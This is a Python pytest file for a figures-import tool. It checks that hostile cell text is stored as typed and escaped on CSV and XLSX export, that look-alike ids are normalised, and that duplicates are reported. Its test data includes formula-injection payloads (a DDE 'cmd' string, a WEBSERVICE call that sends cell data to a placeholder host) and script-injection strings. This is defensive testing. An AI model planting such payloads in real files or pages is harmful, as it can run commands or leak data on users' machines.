"""Hostile cell contents: formula injection, HTML, look-alike ids, duplicates, floods.

Text a person typed is stored as text exactly as typed (only surrounding white space is
trimmed, as the reader documents) and every export escapes what a spreadsheet would run;
ids written with full-width or invisible characters are normalised; duplicates and a
thousand bad cells are all reported at once and nothing is stored.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from adversarial_support import (
    HEADER,
    StoreSnapshot,
    assert_clear,
    attempt_import,
    csv_content,
    valid_rows,
)
from openpyxl import load_workbook

from lib.output.tabular_export import FORMULA_PREFIXES, csv_bytes, xlsx_bytes
from tests.support import stored_figures

INJECTIONS = [
    '=HYPERLINK("http://x","y")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x/?"&A1)',
    "\t=1+1",
    "\r\n=2+2",
]
HTML = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "<b>加粗</b> &lt;i&gt; &amp;",
    "</td></tr><tr><td>伪造行",
]


def _stored_upload(store, upload_id):
    figures = stored_figures(store.path)
    return figures[figures["upload_id"] == upload_id].sort_values("row_no")


def _import(store, plan, notes, reporters=None):
    rows = valid_rows(plan, len(notes))
    for row, note in zip(rows, notes, strict=True):
        row[3] = note
    for row, reporter in zip(rows, reporters or [], strict=False):
        row[4] = reporter
    outcome = attempt_import(store, plan, csv_content(rows), "hostile.csv")
    assert outcome.kind == "imported", [str(p) for p in outcome.problems]
    return _stored_upload(store, outcome.upload_id)


def test_formula_text_in_notes_is_stored_as_typed(store, plan):
    stored = _import(store, plan, INJECTIONS)
    assert list(stored["note"]) == [text.strip() for text in INJECTIONS]


def test_formula_or_html_as_a_reporter_is_refused_and_nothing_stored(store, snapshot, plan):
    # a reporter must be a registered unit, so hostile text never becomes a stored name
    rows = valid_rows(plan, 3)
    hostile_names = ["=cmd|' /C calc'!A0", "@市编办", "<script>x</script>"]
    for row, hostile in zip(rows, hostile_names, strict=True):
        row[4] = hostile
    outcome = attempt_import(store, plan, csv_content(rows), "hostile.csv")
    assert outcome.kind == "refused"
    assert_clear(outcome.problems, "unknown_reporter")
    problems = outcome.report.problems_frame("zh")
    assert (problems["code"] == "unknown_reporter").sum() == 3
    _assert_escaped_csv(csv_bytes(problems.assign(change=-12.5)), problems.assign(change=-12.5))
    snapshot.assert_same(store)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _with_negative_change(frame: pd.DataFrame) -> pd.DataFrame:
    return frame.assign(change=-12.5)


def _assert_escaped_csv(data: bytes, frame: pd.DataFrame) -> None:
    cells = _csv_cells(data)
    for row_cells, row in zip(cells[1:], frame.itertuples(index=False), strict=True):
        for cell, value in zip(row_cells, row, strict=True):
            if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
                assert cell == "'" + value
            elif isinstance(value, float):
                assert float(cell) == value  # numbers are never quoted: -12.5 stays -12.5
    assert "-12.5" in [c for row in cells for c in row]


def _assert_escaped_xlsx(data: bytes, frame: pd.DataFrame) -> None:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(frame)
    for cells, row in zip(rows, frame.itertuples(index=False), strict=True):
        for cell, value in zip(cells, row, strict=True):
            assert cell.data_type != "f", f"{cell.coordinate} became a formula: {cell.value}"
            if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
                assert cell.value == "'" + value
            elif isinstance(value, float) and value == -12.5:
                assert cell.data_type == "n" and cell.value == -12.5


@pytest.mark.parametrize("view", ["current_values"])
def test_stored_formula_text_is_escaped_in_every_export(store, plan, view):
    _import(store, plan, INJECTIONS)
    frame = _with_negative_change(getattr(store, view)())
    _assert_escaped_csv(csv_bytes(frame), frame)
    _assert_escaped_xlsx(xlsx_bytes({"导出": frame}), frame)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_escaped_in_both_formats(prefix):
    frame = pd.DataFrame({"note": [prefix + "1+1", "正常文字", "-12.5"], "value": [-12.5, 0, 1]})
    _assert_escaped_csv(csv_bytes(frame), frame)
    _assert_escaped_xlsx(xlsx_bytes({"x": frame}), frame)


def test_hostile_cell_values_are_escaped_in_the_exported_problem_report(store, snapshot, plan):
    rows = valid_rows(plan, 2)
    rows[0][2] = '=HYPERLINK("http://x","点我")'
    rows[1][1] = "@SUM(A1)"
    outcome = attempt_import(store, plan, csv_content(rows), "bad.csv")
    assert outcome.kind == "refused"
    assert_clear(outcome.problems, "value_not_numeric")
    problems = _with_negative_change(outcome.report.problems_frame("zh"))
    assert set(problems["value"]) >= {'=HYPERLINK("http://x","点我")', "@SUM(A1)"}
    _assert_escaped_csv(csv_bytes(problems), problems)
    _assert_escaped_xlsx(xlsx_bytes({"校验报告": problems}), problems)
    snapshot.assert_same(store)


def test_html_in_notes_is_stored_as_plain_text(store, plan):
    stored = _import(store, plan, HTML)
    assert list(stored["note"]) == HTML
    exported = _csv_cells(csv_bytes(stored))
    assert set(HTML) <= {cell for row in exported for cell in row}


# --- look-alike ids -----------------------------------------------------------------------


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


ID_VARIANTS = {
    "full-width": _full_width,
    "zero-width-space": lambda i: i[0] + "\u200b" + i[1:],
    "zero-width-joiner": lambda i: i.replace("-", "\u200d-"),
    "word-joiner": lambda i: i.replace("-", "-\u2060"),
    "bom-inside": lambda i: "\ufeff" + i,
    "lower-case": str.lower,
    "en-dash": lambda i: i.replace("-", "\u2013"),
    "minus-sign": lambda i: i.replace("-", "\u2212"),
    "spaces": lambda i: " " + i.replace("-", " - ") + "\u3000",
    "no-break-space": lambda i: i.replace("-", "\u00a0-"),
}
PERIOD_VARIANTS = ["２０１４Ｑ４", "2014年第四季度", "2014q4", "2014-Q4", "2014 Q4", "\u200b2014Q4"]


def test_full_width_and_invisible_variants_of_ids_are_normalised(store, plan):
    rows = valid_rows(plan, len(ID_VARIANTS))
    for row, make in zip(rows, ID_VARIANTS.values(), strict=True):
        row[0] = make(row[0])
    canonical = list(plan.indicators["indicator_id"][: len(rows)])
    outcome = attempt_import(store, plan, csv_content(rows), "variants.csv")
    assert outcome.kind == "imported", [str(p) for p in outcome.problems]
    assert list(_stored_upload(store, outcome.upload_id)["indicator_id"]) == canonical


def test_period_variants_are_normalised(store, plan):
    rows = valid_rows(plan, len(PERIOD_VARIANTS))
    for row, period in zip(rows, PERIOD_VARIANTS, strict=True):
        row[1] = period
    outcome = attempt_import(store, plan, csv_content(rows), "periods.csv")
    assert outcome.kind == "imported", [str(p) for p in outcome.problems]
    assert set(_stored_upload(store, outcome.upload_id)["period"]) == {"2014Q4"}


# --- duplicates, floods, repeats ----------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (("T01-1", "2014Q4"), ("T01-1", "2014Q4")),
        (("T01-1", "2014Q4"), ("Ｔ０１－１", "2014Q4")),
        (("T01-1", "2014Q4"), ("t01\u200b-1", "2014年第四季度")),
    ],
    ids=["identical", "full-width", "invisible-and-chinese-period"],
)
def test_duplicate_keys_name_both_rows(store, snapshot, plan, first, second):
    rows = [
        [first[0], first[1], "50", "第一次", ""],
        *valid_rows(plan, 3)[1:],
        [second[0], second[1], "60", "第二次", ""],
    ]
    outcome = attempt_import(store, plan, csv_content(rows), "dup.csv")
    assert outcome.kind == "refused"
    (problem,) = assert_clear(outcome.problems, "duplicate_row")
    assert problem.row == 5
    assert "row 5" in problem.message_en and "row 2" in problem.message_en
    assert "第 5 行" in problem.message_zh and "第 2 行" in problem.message_zh
    snapshot.assert_same(store)


def test_a_thousand_bad_cells_are_all_listed(store, snapshot, plan):
    keys = [(i, p) for p in ("2014Q1", "2014Q2", "2014Q3", "2014Q4") for i in
            plan.indicators["indicator_id"]][:250]  # fmt: skip
    bad_values = [[i, p, f"约{n}个", "", ""] for n, (i, p) in enumerate(keys)]
    unknown_ids = [[f"T9{n:03d}-1", "2014Q4", "1", "", ""] for n in range(750)]
    rows = bad_values + unknown_ids
    outcome = attempt_import(store, plan, csv_content(rows), "flood.csv")
    assert outcome.kind == "refused"
    errors = outcome.report.errors
    assert len(errors) == 1000
    assert sorted(p.row for p in errors) == list(range(2, 1002))
    assert len(assert_clear(errors, "value_not_numeric")) == 250
    assert len(assert_clear(errors, "unknown_indicator")) == 750
    assert_clear(outcome.problems, "has_errors")
    assert "1000" in next(p for p in outcome.problems if p.code == "has_errors").message_en
    snapshot.assert_same(store)


def test_the_same_file_twice_is_refused_the_second_time(store, plan):
    content = csv_content(valid_rows(plan, 5))
    first = attempt_import(store, plan, content, "twice.csv")
    assert first.kind == "imported"
    after_first = StoreSnapshot.of(store)
    second = attempt_import(store, plan, content, "twice-renamed.csv")
    assert second.kind == "refused"
    (problem,) = assert_clear(second.problems, "duplicate_upload")
    assert problem.value == str(first.upload_id)
    after_first.assert_same(store)


def test_header_cells_with_formula_text_do_not_break_reading(store, plan):
    header = [*HEADER, "=cmd|' /C calc'!A0"]
    rows = [[*row, "=1+1"] for row in valid_rows(plan, 2)]
    outcome = attempt_import(store, plan, csv_content(rows, header=header), "extra.csv")
    assert outcome.kind == "imported"
